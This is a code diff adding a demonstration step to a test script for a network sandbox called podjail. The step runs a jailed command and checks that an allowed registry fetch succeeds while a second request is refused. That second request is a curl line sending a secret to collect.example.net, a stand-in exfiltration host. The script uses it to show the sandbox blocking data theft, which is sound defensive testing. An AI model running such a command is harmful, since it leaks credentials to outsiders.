@@ -2,8 +2,10 @@
 what reached the outside."""
 
 import shlex
+import subprocess
 
-from pod.network import OTHER4, RESOLVER4
+from pod import programs
+from pod.network import OTHER4, RESOLVER4, UPSTREAM4
 from pod.waiting import NotInTime, wait_until
 
 POLICY = """\
@@ -35,6 +37,7 @@ class Steps:
         self.stolen_identity()
         self.live_edit()
         self.metrics()
+        self.one_command()
 
     def show_policy(self):
         """The one policy in force."""
@@ -125,6 +128,24 @@ class Steps:
                                    any("requests_total" in line and what in line for line in told))
         self._terminal.promise("DNS questions and the reload are counted",
                                all(any(word in line for line in told) for word in ("dns_queries", 'result="ok"')))
+
+    def one_command(self):
+        """podjail run."""
+        self._terminal.heading("The same jail around one command", "No container and no installation, and root is not needed "
+                               "either: the command's network has no wire at all. It asks the same server.")
+        outside = self._pod.outside
+        where = ["--resolver", RESOLVER4, "--root", str(outside.roots), "--grant", f"{UPSTREAM4}:443"]
+        what = ["--js", 'r.host === "registry.example.test"', "--", "sh", "-c",
+                f"curl -sS https://registry.example.test/pkg/left-pad; curl -sS https://collect.example.net/?stolen={SECRET}"]
+        self._terminal.command("laptop", shlex.join(["podjail", "run", *what]))
+        before = len(outside.requests)
+        argv = [programs.find().front, "run", *where, *what]
+        done = self._pod.network.outside.run(lambda: subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False))
+        self._terminal.output(done.stdout + done.stderr)
+        self._terminal.promise("the command got the registry's answer", "hello from registry.example.test" in done.stdout, done.stderr)
+        self._terminal.promise("and a reason for the other", "reason: not_allowed" in done.stdout, done.stdout)
+        seen = [(request.method, request.path) for request in outside.requests[before:]]
+        self._terminal.promise("the registry saw exactly this request", seen == [("GET", "/pkg/left-pad")], str(seen))
 
     def _refused(self, *argv, saying):
         frames, before = self._pod.outside.frames.mark(), len(self._pod.outside.requests)
